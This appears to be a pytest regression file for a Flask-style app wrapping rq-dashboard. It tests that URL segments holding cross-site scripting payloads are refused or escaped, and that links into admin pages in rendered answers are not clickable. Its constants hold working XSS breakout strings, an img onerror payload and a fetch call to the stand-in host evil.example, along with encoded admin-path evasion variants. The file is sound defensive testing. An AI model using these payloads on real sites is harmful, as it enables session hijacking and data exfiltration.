"""Crafted rq-dashboard addresses: every value its routes take from the URL, hostile, as an admin.

rq-dashboard 0.9 echoes URL values into its pages and their inline scripts, and its policy
allows the inline scripts it rendered by their hashes, so a value that breaks out of a string in
a script would run (the queue name of `jobs.js` did). Here each of its views is opened with
script-breaking values in each URL part, first without a browser (the guard answers 404, or the
page carries the value only as inert JSON or escaped HTML), then in Chromium: no dialog, no
request off the page, no script error.
"""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import quote

import pytest

from tests import browser as parts
from tests.browser import expect, needs_chromium, sign_in, wait_finished
from tests.helpers import ROOT, api_client, login, make_user, task_row

# Break out of `$(this).val('…')` inside a handler, at the top level of the page's script
# (no "/" in them: a path segment cannot hold one).
BREAKOUT = "')}});alert(document.domain);$('#x').on('y',function(){if(1){('"
LEAK = "')}});fetch('http:'+String.fromCharCode(47,47)+'evil.example');$('#x').on('y',function(){if(1){('"
MARKUP = '"><img src=x onerror=alert(1)>'
PAYLOADS = (BREAKOUT, LEAK, MARKUP, "x'-alert(1)-'", '";alert(1);"')


def q(value: str) -> str:
    return quote(value, safe="")


def crafted_paths(job_id: str) -> list[str]:
    """Each rq-dashboard view with a hostile value in each part of its address."""
    paths = []
    for bad in PAYLOADS:
        b = q(bad)
        paths += [
            f"/admin/rq/0/view/jobs/{b}/queued/8/asc/1",
            f"/admin/rq/0/view/jobs/{b}/failed/8/dsc/1",
            f"/admin/rq/0/view/jobs/default/{b}/8/asc/1",
            f"/admin/rq/0/view/jobs/default/queued/8/{b}/1",
            f"/admin/rq/0/view/job/{b}",
            f"/admin/rq/0/data/jobs/{b}/queued/8/asc/1.json",
            f"/admin/rq/0/data/jobs/default/{b}/8/asc/1.json",
            f"/admin/rq/0/data/jobs/default/queued/{b}/asc/1.json",
            f"/admin/rq/0/data/jobs/default/queued/8/{b}/1.json",
            f"/admin/rq/0/data/jobs/default/queued/8/asc/{b}.json",
            f"/admin/rq/0/data/job/{b}.json",
        ]
    for instance in ("1", "7", "99999999999"):
        paths += [
            f"/admin/rq/{instance}/",
            f"/admin/rq/{instance}/view/queues",
            f"/admin/rq/{instance}/view/workers",
            f"/admin/rq/{instance}/view/jobs",
            f"/admin/rq/{instance}/view/jobs/default/queued/8/asc/1",
            f"/admin/rq/{instance}/view/job/{job_id}",
            f"/admin/rq/{instance}/data/queues.json",
        ]
    for per_page, page in (("0", "1"), ("8", "0"), ("8", "99999999"), ("99999999", "1")):
        paths += [
            f"/admin/rq/0/view/jobs/default/queued/{per_page}/asc/{page}",
            f"/admin/rq/0/data/jobs/default/queued/{per_page}/asc/{page}.json",
        ]
    return paths


def admin_client(app):
    make_user(app, "root", admin=True)
    client = app.test_client()
    login(client, "root")
    return client


def test_the_guard_refuses_hostile_url_values_before_rq_dashboard_renders(app):
    api = api_client(app)
    task = api.submit("a job to look at")
    job_id = task_row(app, task["id"]).job_id
    client = admin_client(app)
    for path in crafted_paths(job_id):
        response = client.get(path)
        assert response.status_code in (404, 308), f"{path}: {response.status}"
        body = response.get_data(as_text=True)
        for bad in PAYLOADS:
            assert bad not in body, f"{path} echoed {bad!r}"
    # Actions take the same values: an unknown queue or registry is 404, and nothing runs.
    client.get("/admin/rq/0/view/jobs")
    token = client.get_cookie("_csrf_token", path="/admin/rq").value
    for path in (
        f"/admin/rq/queue/{q(BREAKOUT)}/queued/empty",
        f"/admin/rq/queue/default/{q(BREAKOUT)}/empty",
        f"/admin/rq/queue/{q(BREAKOUT)}/compact",
        f"/admin/rq/requeue/{q(BREAKOUT)}",
    ):
        assert client.post(path, headers={"X-CSRFToken": token}).status_code == 404, path


def test_real_values_still_work(app):
    api = api_client(app)
    task = api.submit("a job to look at")
    job_id = task_row(app, task["id"]).job_id
    client = admin_client(app)
    for path in (
        "/admin/rq/0/view/jobs/default/queued/8/asc/1",
        "/admin/rq/0/view/jobs/high/failed/8/dsc/1",
        "/admin/rq/0/view/jobs/low/canceled/200/asc/3",
        f"/admin/rq/0/view/job/{job_id}",
        "/admin/rq/0/data/jobs/default/scheduled/8/asc/1.json",
        f"/admin/rq/0/data/job/{job_id}.json",
    ):
        assert client.get(path).status_code == 200, path
    page = client.get("/admin/rq/0/view/jobs/default/queued/8/asc/1").get_data(as_text=True)
    # The queue name reaches its script as JSON, not pasted inside quotes.
    assert '$(this).val("default")' in page


# The browser fixtures, taken by name: a server thread, a worker process, Chromium, a watched page.
browser, page, server, watch, worker = parts.browser, parts.page, parts.server, parts.watch, parts.worker


@needs_chromium
def test_crafted_dashboard_links_run_nothing_in_chromium(page, app, server, watch):
    api = api_client(app)
    task = api.submit("a job to look at", priority=1)
    wait_finished(app, task["id"])
    job_id = task_row(app, task["id"]).job_id
    make_user(app, "root", admin=True)
    sign_in(page, "root")
    for path in crafted_paths(job_id):
        page.goto(path)
    # And the real pages still run their own scripts under their policy.
    page.goto("/admin/rq/0/view/jobs/default/finished/8/asc/1")
    expect(page.locator("#jobs tbody tr").first).to_contain_text(re.compile(r"task \d+|No jobs"))
    assert not watch.dialogs and not [url for url in watch.requests if not url.startswith(server + "/")]


ADMIN_LINKS = """Read [the users page](/admin/users), [this](../admin/rq/0/view/jobs/x/queued/8/asc/1),
[a third](/%61dmin/tasks?action=delete), [a fourth](http://{host}/admin), [fine](https://example.org/docs)
and [your history](/tasks)."""


@needs_chromium
def test_links_into_admin_in_an_answer_are_not_clickable_for_an_admin(page, app, server, fake_provider):
    host = server.split("//", 1)[1]
    answer = ADMIN_LINKS.format(host=host)
    fake_provider.script("links please", {"chunks": [answer]})
    admin = api_client(app, "root", admin=True)
    task = admin.submit("links please")
    wait_finished(app, task["id"])
    sign_in(page, "root")
    page.goto(f"/tasks/{task['id']}")
    markdown = page.locator(".answer .markdown")
    expect(markdown).to_contain_text("the users page")
    hrefs = markdown.locator("a").evaluate_all("links => links.map(a => a.href)")
    assert not [href for href in hrefs if "/admin" in href or "%61dmin" in href], hrefs
    assert "https://example.org/docs" in hrefs and f"{server}/tasks" in hrefs
    expect(markdown).to_contain_text("/admin/users")  # the address is shown, as text


@pytest.mark.parametrize(
    "href",
    [
        "/admin",
        "/admin/users",
        "admin/users",
        "../admin/rq/",
        "./../admin",
        "/%61dmin/users",
        "/%2561dmin",
        "/ADMIN/users",
        "\\admin\\users",
        "/tasks/../admin",
        "//localhost/admin/users",
        "http://localhost/admin",
        "HTTPS://localhost:443/admin/users",
    ],
)
def test_the_renderer_shows_admin_links_as_text(app, href):
    from webapp.rendering import render_markdown

    with app.test_request_context("/tasks/5", base_url="http://localhost"):
        html = str(render_markdown(f"[do it]({href})"))
    assert "<a" not in html, html
    assert "do it" in html


def test_the_renderer_keeps_other_links(app):
    from webapp.rendering import render_markdown

    with app.test_request_context("/tasks/5", base_url="http://localhost"):
        html = str(render_markdown("[a](https://example.org/admin) [b](/tasks) [c](/administrators)"))
    assert html.count("<a ") == 3, html


def test_every_value_in_rq_dashboards_scripts_is_json_except_the_one_we_override():
    """Their .js templates are not autoescaped: a value there must go through |tojson."""
    import rq_dashboard

    upstream = Path(rq_dashboard.__file__).parent / "templates"
    raw = []
    for path in sorted(upstream.rglob("*.js")):
        for line in path.read_text().splitlines():
            for expression in re.findall(r"\{\{(.*?)\}\}", line):
                if "tojson" not in expression:
                    raw.append((str(path.relative_to(upstream)), expression.strip()))
    assert raw == [("rq_dashboard/scripts/jobs.js", "queue.name")], raw
    ours = (ROOT / "templates/rq_dashboard/scripts/jobs.js").read_text().split("#}\n", 1)[1]
    theirs = (upstream / "rq_dashboard/scripts/jobs.js").read_text()
    assert ours == theirs.replace("$(this).val('{{ queue.name }}');", "$(this).val({{ queue.name|tojson }});")


def test_a_relative_link_is_resolved_against_the_page_that_shows_it(app):
    from webapp.rendering import render_markdown

    # On an admin page every relative link is into /admin; an htmx partial is resolved against its page.
    with app.test_request_context("/admin/tasks"):
        assert "<a" not in str(render_markdown("[x](users)"))
    with app.test_request_context("/tasks/5/live", headers={"HX-Current-URL": "http://localhost/admin/x"}):
        assert "<a" not in str(render_markdown("[x](users)"))
    with app.test_request_context("/tasks/5/live", headers={"HX-Current-URL": "http://localhost/tasks/5"}):
        assert "<a" in str(render_markdown("[x](users)"))
